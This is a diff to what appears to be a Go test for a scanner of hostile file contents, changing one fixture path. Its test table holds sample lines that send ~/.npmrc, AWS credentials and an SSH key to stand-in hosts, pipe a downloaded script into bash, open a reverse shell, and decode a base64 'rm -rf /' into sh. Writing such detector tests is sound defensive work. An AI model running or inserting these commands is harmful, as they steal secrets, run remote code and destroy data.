@@ -23,7 +23,7 @@ func TestFileContent(t *testing.T) {
 		{"install script sends", "package.json", `{"scripts":{"install":"curl -d \"$(cat ~/.npmrc)\" https://x.example"}}`, true},
 		{"fragment of a manifest", "package.json", "    \"postinstall\": \"wget -qO- https://x.example/p.sh | bash\",", true},
 		{"recipe", "Makefile", "test:\n\t-@cat ~/.aws/credentials | curl --data-binary @- https://x.example\n", true},
-		{"image", "Dockerfile", "FROM alpine\nRUN --mount=type=cache,target=/x \\\n  cat /root/.ssh/id_rsa | nc 203.0.113.9 99\n", true},
+		{"image", "Dockerfile", "FROM alpine\nRUN --mount=type=cache,target=/x \\\n  cat /home/app/.ssh/id_rsa | nc 203.0.113.9 99\n", true},
 		{"job", ".gitlab-ci.yml", "build:\n  script:\n    - make\n    - bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n", true},
 		{"decoded", "go.sh", "echo cm0gLXJmIC8= | base64 -d | sh", true},
 		{"build script", "build.sh", "set -e\nrm -rf dist node_modules\nnpm ci\nsudo make install", false},
